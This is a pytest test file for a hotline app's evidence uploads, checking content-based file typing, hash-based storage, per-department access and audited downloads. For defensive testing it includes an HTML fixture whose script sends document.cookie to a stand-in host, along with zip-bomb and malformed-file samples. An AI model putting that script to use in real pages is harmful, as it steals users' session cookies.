"""Evidence on a case: uploads checked by content, stored once outside the web root under their
hash, downloaded as attachments by those who may see the case, MMS media shown as links."""

import hashlib
import io
import sqlite3
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openapi_core import OpenAPI
from sqlalchemy import func, select

from hotline import create_app
from hotline.api.openapi import document
from hotline.extensions import db
from hotline.models import AuditLog, Department, Evidence, Role, Ticket, TicketEvent
from intake import filetypes
from tests.api.conftest import CheckedClient
from tests.conftest import PASSWORD, make_config
from tests.intake.hostile_files import looping_fat_ole, many_entries_zip, nested_zip, zip_bomb
from tests.intake.test_evidence_filetypes import JPEG, PDF, office_zip

DOCX = office_zip("word/document.xml")
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"This program cannot be run in DOS mode"
HTML = b"<!doctype html><html><body><script>document.location='https://evil.test/?'+document.cookie</script>"


@pytest.fixture
def evidence_dir(tmp_path):
    return tmp_path / "evidence"


@pytest.fixture
def app(app_factory, evidence_dir):
    app = app_factory(EVIDENCE_DIR=str(evidence_dir), EVIDENCE_MAX_BYTES=1024 * 1024)
    with app.app_context():
        yield app


@pytest.fixture
def staff(make_user):
    """A staff account that reads the English messages asserted here, whatever the default language."""

    def make(role=Role.OPERATOR, **kwargs):
        user = make_user(role=role, **kwargs)
        user.locale = "en"
        db.session.commit()
        return user

    return make


@pytest.fixture
def departments(app):
    made = [Department(code="D01", name="East office"), Department(code="D02", name="West office")]
    db.session.add_all(made)
    db.session.commit()
    return made


@pytest.fixture
def case(create_ticket, departments):
    return create_ticket(department_id=departments[0].id)


@pytest.fixture
def operator(staff, login):
    user = staff(username="li")
    login(user)
    return user


def upload(client, ticket, *files):
    """POST files [(name, bytes, browser content type)] as the ticket page's form does."""
    data = {"files": [(io.BytesIO(content), name, ctype) for name, content, ctype in files]}
    return client.post(f"/evidence/tickets/{ticket.number}", data=data, content_type="multipart/form-data",
                       follow_redirects=True)


class Page(HTMLParser):
    """Flash messages and the evidence panel's links, as a user reads them."""

    def __init__(self, html):
        super().__init__()
        self.flashes, self.links, self._flash, self._link, self._in_evidence = [], [], None, None, 0
        self.cells, self._cell, self.has_upload_form = [], None, False
        self.has_evidence_panel = False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if attrs.get("id") == "evidence":
            self.has_evidence_panel, self._in_evidence = True, 1
        elif self._in_evidence and tag == "section":
            self._in_evidence += 1
        if tag == "p" and "flash" in (attrs.get("class") or ""):
            self._flash = [attrs["class"].split()[-1], ""]
        if tag == "a" and self._in_evidence:
            self._link = [attrs.get("href"), ""]
        if tag == "td" and self._in_evidence:
            self._cell = [None, ""]
        if tag == "form" and self._in_evidence and attrs.get("enctype") == "multipart/form-data":
            self.has_upload_form = True

    def handle_endtag(self, tag):
        if tag == "p" and self._flash:
            self.flashes.append(tuple(self._flash))
            self._flash = None
        if tag == "a" and self._link:
            self.links.append((self._link[0], self._link[1].strip()))
            self._link = None
        if tag == "td" and self._cell:
            self.cells.append(" ".join(self._cell[1].split()))
            self._cell = None
        if tag == "section" and self._in_evidence:
            self._in_evidence -= 1

    def handle_data(self, data):
        for open_ in (self._flash, self._link, self._cell):
            if open_ is not None:
                open_[1] += data


def evidence_panel(client, ticket):
    """The case page as the signed-in user sees it."""
    response = client.get(f"/tickets/{ticket.number}")
    assert response.status_code == 200
    return Page(response.get_data(as_text=True))


def stored_files(evidence_dir):
    return sorted(p for p in Path(evidence_dir).rglob("*") if p.is_file())


# ---- uploads -------------------------------------------------------------------------------

def test_good_files_are_attached_with_the_sniffed_type_and_an_event_each(client, case, operator, evidence_dir):
    response = upload(client, case, ("发票.jpg", JPEG, "image/jpeg"), ("合同.pdf", PDF, "application/pdf"),
                      ("chat.docx", DOCX, "application/octet-stream"))
    page = Page(response.get_data(as_text=True))
    assert [kind for kind, _text in page.flashes] == ["success"] * 3
    rows = db.session.scalars(select(Evidence).order_by(Evidence.id)).all()
    assert [(e.filename, e.content_type, e.size) for e in rows] == [
        ("发票.jpg", "image/jpeg", len(JPEG)),
        ("合同.pdf", "application/pdf", len(PDF)),
        ("chat.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", len(DOCX)),
    ]
    assert all(e.uploaded_by_id == operator.id and e.ticket_id == case.id for e in rows)
    events = db.session.scalars(select(TicketEvent).where(TicketEvent.type == "evidence_added")
                                .order_by(TicketEvent.id)).all()
    assert [(ev.to_value, ev.data["size"], ev.data["sha256"], ev.actor_id) for ev in events] == [
        (e.filename, e.size, hashlib.sha256(c).hexdigest(), operator.id)
        for e, c in zip(rows, (JPEG, PDF, DOCX), strict=True)]
    for content in (JPEG, PDF, DOCX):
        sha = hashlib.sha256(content).hexdigest()
        assert (evidence_dir / sha[:2] / sha).read_bytes() == content


@pytest.mark.parametrize(("name", "content", "ctype", "why"), [
    ("holiday.jpg", EXE, "image/jpeg", "programs are not accepted"),
    ("invoice.pdf", EXE, "application/pdf", "programs are not accepted"),
    ("photo.jpg", HTML, "image/jpeg", "web pages (HTML) are not accepted"),
    ("scan.pdf", HTML, "application/pdf", "web pages (HTML) are not accepted"),
    ("empty.jpg", b"", "image/jpeg", "the file is empty"),
], ids=["exe-as-jpg", "exe-as-pdf", "html-as-jpg", "html-as-pdf", "empty"])
def test_a_disguised_or_empty_file_is_refused_with_a_clear_message(client, case, operator, evidence_dir,
                                                                   name, content, ctype, why):
    response = upload(client, case, (name, content, ctype))
    assert response.status_code == 422
    page = Page(response.get_data(as_text=True))
    ((kind, text),) = page.flashes
    assert kind == "error" and text.startswith(f"{name} was not attached: {why}")
    assert db.session.scalar(select(func.count()).select_from(Evidence)) == 0
    assert stored_files(evidence_dir) == []


def test_an_oversized_file_is_refused_and_the_others_are_kept(client, case, operator, evidence_dir):
    big = JPEG[:-2] + b"\x00" * (1024 * 1024) + b"\xff\xd9"
    page = Page(upload(client, case, ("big.jpg", big, "image/jpeg"), ("ok.pdf", PDF, "application/pdf"))
                .get_data(as_text=True))
    assert page.flashes == [("error", "big.jpg was not attached: larger than 1 MB."), ("success", "ok.pdf attached.")]
    assert db.session.scalars(select(Evidence.filename)).all() == ["ok.pdf"]
    assert len(stored_files(evidence_dir)) == 1


def test_a_request_over_the_app_limit_is_a_413_with_a_message(app_factory, evidence_dir, staff, departments):
    app = app_factory(EVIDENCE_DIR=str(evidence_dir), MAX_CONTENT_LENGTH=64 * 1024, EVIDENCE_MAX_BYTES=32 * 1024)
    client = app.test_client()
    with app.app_context():
        from hotline import tickets
        from hotline.models import Channel

        ticket = tickets.open_ticket(Channel.VOICE)
        db.session.commit()
        user = staff(role=Role.OPERATOR)
        client.post("/login", data={"username": user.username, "password": "amber-otter-lantern-42"})
        response = upload(client, ticket, ("huge.pdf", PDF + b"\x00" * 100_000, "application/pdf"))
        assert response.status_code == 413
        html = response.get_data(as_text=True)
        assert "Traceback" not in html
        assert Page(html).flashes == [("error", "The upload is too large: at most 0.0625 MB at once, "
                                                "0.03125 MB per file.")]
        assert db.session.scalar(select(func.count()).select_from(Evidence)) == 0


def test_the_same_file_twice_is_stored_once(client, case, create_ticket, operator, evidence_dir):
    other = create_ticket(phone="+8613900139000")
    upload(client, case, ("a.jpg", JPEG, "image/jpeg"))
    upload(client, other, ("copy-of-a.jpg", JPEG, "image/jpeg"))
    page = Page(upload(client, case, ("again.jpg", JPEG, "image/jpeg")).get_data(as_text=True))
    assert page.flashes == [("error", "again.jpg was not attached: this file is already attached to the case.")]
    assert db.session.scalar(select(func.count()).select_from(Evidence)) == 2
    assert len(stored_files(evidence_dir)) == 1


def test_files_are_stored_outside_the_web_root_and_not_reachable_by_path(app, client, case, operator, evidence_dir):
    upload(client, case, ("a.pdf", PDF, "application/pdf"))
    (path,) = stored_files(evidence_dir)
    static = Path(app.static_folder).resolve()
    assert static not in path.resolve().parents
    sha = path.name
    for url in (f"/static/{sha}", f"/static/{sha[:2]}/{sha}", f"/evidence/{sha}", f"/evidence/{sha[:2]}/{sha}",
                f"/static/../instance/evidence/{sha[:2]}/{sha}"):
        assert client.get(url).status_code == 404


def test_without_a_csrf_token_the_upload_is_refused(app_factory, evidence_dir, departments):
    app = app_factory(EVIDENCE_DIR=str(evidence_dir), WTF_CSRF_ENABLED=True)
    client = app.test_client()
    with app.app_context():
        from hotline import accounts, tickets
        from hotline.models import Channel

        ticket = tickets.open_ticket(Channel.VOICE)
        user = accounts.create_user("op", "amber-otter-lantern-42", Role.OPERATOR)
        db.session.commit()
        with client.session_transaction() as sess:
            sess["_user_id"], sess["_fresh"] = str(user.id), True
        response = upload(client, ticket, ("a.pdf", PDF, "application/pdf"))
        assert response.status_code == 400
        assert db.session.scalar(select(func.count()).select_from(Evidence)) == 0


def test_no_file_chosen_says_so(client, case, operator):
    response = client.post(f"/evidence/tickets/{case.number}", data={}, follow_redirects=True)
    assert response.status_code == 400
    assert Page(response.get_data(as_text=True)).flashes == [("error", "Choose one or more files to attach.")]


# ---- hostile files: refused with a message, nothing else lost, never parsed inside a transaction --

HOSTILE = [
    ("report.doc", looping_fat_ole(64 * 1024), "application/msword"),
    ("photos.docx", zip_bomb(), "application/octet-stream"),
    ("slides.docx", many_entries_zip(filetypes.ZIP_MAX_ENTRIES + 1), "application/octet-stream"),
]
TOO_COMPLEX = ("was not attached: the file is built in a way that cannot be checked safely (too many parts, or "
               "packed far too tightly); save it again or send a PDF.")


@pytest.mark.timeout(120)
def test_hostile_files_are_refused_with_a_message_and_the_good_one_beside_them_is_kept(
        client, case, operator, evidence_dir):
    response = upload(client, case, *HOSTILE, ("合同.pdf", PDF, "application/pdf"),
                      ("nested.zip", nested_zip(60), "application/zip"))
    assert response.status_code == 422
    page = Page(response.get_data(as_text=True))
    assert page.flashes == [("error", f"{name} {TOO_COMPLEX}") for name, _data, _type in HOSTILE] + [
        ("success", "合同.pdf attached."),
        ("error", "nested.zip was not attached: archives (zip) are not accepted; send the files themselves."),
    ]
    assert page.has_evidence_panel  # the case page itself, with its evidence panel
    assert db.session.scalars(select(Evidence.filename)).all() == ["合同.pdf"]
    assert len(stored_files(evidence_dir)) == 1
    assert db.session.get(Ticket, case.id).facts == case.facts  # the case is as it was


@pytest.fixture
def inspection_log(monkeypatch):
    """Whether a database transaction was open each time an upload was typed."""
    seen = []
    sniff = filetypes.sniff

    def watched(data):
        seen.append(db.session().in_transaction())
        return sniff(data)

    monkeypatch.setattr(filetypes, "sniff", watched)
    return seen


@pytest.mark.timeout(120)
def test_files_are_typed_with_no_transaction_open(client, case, operator, inspection_log):
    """The sign-in check opens one (on SQLite it holds the write lock): it is over before any parsing."""
    upload(client, case, HOSTILE[0], ("合同.pdf", PDF, "application/pdf"))
    assert inspection_log == [False, False]


@pytest.mark.timeout(120)
@pytest.mark.backend("sqlite")  # "the write lock taken by BEGIN IMMEDIATE is SQLite's"
def test_a_hostile_upload_never_blocks_a_writer_on_sqlite(app_factory, backend, tmp_path, staff, monkeypatch):
    """While the upload is being parsed, another connection takes SQLite's write lock at once."""
    path = tmp_path / "hotline.sqlite"
    app = app_factory(SQLALCHEMY_DATABASE_URI=f"sqlite:///{path}", EVIDENCE_DIR=str(tmp_path / "evidence"))
    client = app.test_client()
    writes = []
    sniff = filetypes.sniff

    def meanwhile(data):
        other = sqlite3.connect(path, timeout=0, isolation_level=None)
        try:
            other.execute("BEGIN IMMEDIATE")  # "database is locked" if the request held the lock
            other.execute("UPDATE users SET locale = locale")
            other.execute("COMMIT")
            writes.append("ok")
        finally:
            other.close()
        return sniff(data)

    monkeypatch.setattr(filetypes, "sniff", meanwhile)
    with app.app_context():
        from hotline import tickets
        from hotline.models import Channel

        ticket = tickets.open_ticket(Channel.VOICE)
        db.session.commit()
        user = staff(role=Role.OPERATOR)
        client.post("/login", data={"username": user.username, "password": PASSWORD})
        response = upload(client, ticket, HOSTILE[0], ("合同.pdf", PDF, "application/pdf"))
        assert response.status_code == 422
        assert writes == ["ok", "ok"]
        assert db.session.scalars(select(Evidence.filename)).all() == ["合同.pdf"]


# ---- the API twin: POST /api/v1/tickets/<number>/evidence --------------------------------------

@pytest.fixture(scope="module")
def spec():
    return OpenAPI.from_dict(document(create_app(make_config("sqlite"))))


@pytest.fixture
def api_as(client, spec, staff):
    """A client checked against the OpenAPI document, with the bearer token of a new user of `role`."""
    from hotline import accounts

    def make(role=Role.OPERATOR, **kwargs):
        token, _row = accounts.create_token(staff(role=role, **kwargs), "evidence")
        db.session.commit()
        return CheckedClient(client, spec, token)

    return make


def api_upload(api, ticket, name, content):
    return api.post(f"/api/v1/tickets/{ticket.number}/evidence", data={"file": (io.BytesIO(content), name)},
                    content_type="multipart/form-data", headers={"Accept-Language": "en"})


def test_the_api_attaches_a_file_typed_by_its_bytes(api_as, case, evidence_dir):
    response = api_upload(api_as(), case, "scan.jpg", PDF)
    assert response.status_code == 201
    body = response.get_json()
    assert (body["filename"], body["content_type"], body["size"]) == ("scan.jpg.pdf", "application/pdf", len(PDF))
    assert body["sha256"] == hashlib.sha256(PDF).hexdigest()
    assert db.session.get(Evidence, body["id"]).ticket_id == case.id
    assert len(stored_files(evidence_dir)) == 1


@pytest.mark.timeout(120)
@pytest.mark.parametrize(("content", "status", "code"), [
    (looping_fat_ole(64 * 1024), 422, "too_complex"),
    (zip_bomb(), 422, "too_complex"),
    (nested_zip(60), 422, "archive"),
    (EXE, 422, "program"),
    (b"", 422, "empty"),
    (JPEG[:-2] + b"\x00" * (1024 * 1024) + b"\xff\xd9", 413, "too_large"),
], ids=["looping-doc", "zip-bomb", "nested-zip", "exe", "empty", "too-large"])
def test_the_api_refuses_a_hostile_file_with_its_reason(api_as, case, evidence_dir, inspection_log,
                                                        content, status, code):
    response = api_upload(api_as(), case, "evidence.doc", content)
    assert response.status_code == status
    body = response.get_json()
    assert body["code"] == code and body["error"] == "file refused" and body["message"]
    assert db.session.scalar(select(func.count()).select_from(Evidence)) == 0
    assert stored_files(evidence_dir) == []
    assert inspection_log in ([], [False])  # typed with no transaction open (a file too large is not typed)


def test_the_api_says_what_is_wrong_with_a_request_without_a_file(api_as, case):
    response = api_as().post(f"/api/v1/tickets/{case.number}/evidence", data={},
                             content_type="multipart/form-data")
    assert response.status_code == 400
    assert "file" in response.get_json()["message"]


def test_the_api_keeps_evidence_within_the_callers_cases(api_as, case, departments):
    assert api_upload(api_as(Role.DEPARTMENT, department=departments[1]), case, "a.pdf", PDF).status_code == 404
    assert api_upload(api_as(Role.ADMIN), case, "a.pdf", PDF).status_code == 403
    assert api_upload(api_as(Role.DEPARTMENT, department=departments[0]), case, "a.pdf", PDF).status_code == 201
    again = api_upload(api_as(), case, "copy.pdf", PDF)
    assert again.status_code == 422 and again.get_json()["code"] == "duplicate"


# ---- who may upload and download ----------------------------------------------------------

@pytest.fixture
def attached(client, case, operator):
    upload(client, case, ("合同.pdf", PDF, "application/pdf"))
    client.post("/logout")
    return db.session.scalar(select(Evidence))


def test_a_download_is_an_attachment_of_the_sniffed_type_and_audited(client, login, staff, attached):
    supervisor = staff(role=Role.SUPERVISOR)
    login(supervisor)
    response = client.get(f"/evidence/{attached.id}")
    assert response.status_code == 200
    assert response.data == PDF
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert "filename*=UTF-8''%E5%90%88%E5%90%8C.pdf" in response.headers["Content-Disposition"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    audit = db.session.scalar(select(AuditLog).where(AuditLog.action == "download_evidence"))
    assert (audit.user_id, audit.target_id) == (supervisor.id, attached.ticket.number)


def test_a_department_user_downloads_their_own_departments_evidence_only(client, login, staff, attached,
                                                                         departments):
    login(staff(role=Role.DEPARTMENT, department=departments[1]))
    assert client.get(f"/evidence/{attached.id}").status_code == 404
    assert client.get("/evidence/99999").status_code == 404
    client.post("/logout")
    login(staff(role=Role.DEPARTMENT, department=departments[0]))
    assert client.get(f"/evidence/{attached.id}").data == PDF


def test_a_department_user_cannot_upload_to_another_departments_case(client, login, staff, case, departments):
    login(staff(role=Role.DEPARTMENT, department=departments[1]))
    response = upload(client, case, ("a.pdf", PDF, "application/pdf"))
    assert response.status_code == 404
    client.post("/logout")
    login(staff(role=Role.DEPARTMENT, department=departments[0]))
    assert Page(upload(client, case, ("a.pdf", PDF, "application/pdf")).get_data(as_text=True)).flashes == [
        ("success", "a.pdf attached.")]


def test_signed_out_users_are_sent_to_sign_in_and_admins_refused(client, login, staff, attached):
    response = client.get(f"/evidence/{attached.id}")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    response = client.post(f"/evidence/tickets/{attached.ticket.number}", data={})
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    login(staff(role=Role.ADMIN))
    assert client.get(f"/evidence/{attached.id}").status_code == 403


def test_a_missing_stored_file_is_a_404_not_an_error(client, login, staff, attached, evidence_dir):
    for path in stored_files(evidence_dir):
        path.unlink()
    login(staff(role=Role.OPERATOR))
    assert client.get(f"/evidence/{attached.id}").status_code == 404


# ---- the panel on the case page -----------------------------------------------------------

def test_the_panel_lists_files_and_mms_links(app, client, login, staff, twilio_post, operator):
    twilio_post("/twilio/sms", {
        "MessageSid": "SM" + "a" * 32, "AccountSid": "AC" + "0" * 32, "From": "+8613800138000",
        "To": "+8610012315", "Body": "发票照片", "NumMedia": "2",
        "MediaUrl0": "https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME1",
        "MediaContentType0": "image/jpeg",
        "MediaUrl1": "https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME2",
        "MediaContentType1": "application/pdf",
    })
    ticket = db.session.scalar(select(Ticket))
    upload(client, ticket, ("合同.pdf", PDF, "application/pdf"))
    item = db.session.scalar(select(Evidence))
    page = evidence_panel(client, ticket)
    assert page.links == [
        (f"/evidence/{item.id}", "合同.pdf"),
        ("https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME1", "JPEG"),
        ("https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME2", "PDF"),
    ]


def test_the_panel_shows_who_added_what_when(client, case, operator):
    upload(client, case, ("合同.pdf", PDF, "application/pdf"))
    page = evidence_panel(client, case)
    name, kind, size, who, when = page.cells
    assert (name, kind, size, who) == ("合同.pdf", "PDF", f"{len(PDF)} bytes", "li")
    assert when[:2] == "20"  # a local date and time
    assert page.has_upload_form


def test_department_users_see_and_use_the_panel_on_their_own_cases_only(client, login, staff, case, departments):
    login(staff(role=Role.DEPARTMENT, department=departments[0]))
    page = evidence_panel(client, case)
    assert page.has_evidence_panel and page.has_upload_form
    client.post("/logout")
    login(staff(role=Role.DEPARTMENT, department=departments[1]))
    assert client.get(f"/tickets/{case.number}").status_code == 404


def test_admins_see_neither_the_case_nor_its_evidence(app, client, login, staff, case):
    admin = staff(role=Role.ADMIN)
    login(admin)
    assert client.get(f"/tickets/{case.number}").status_code == 404  # no case content (issue 13)
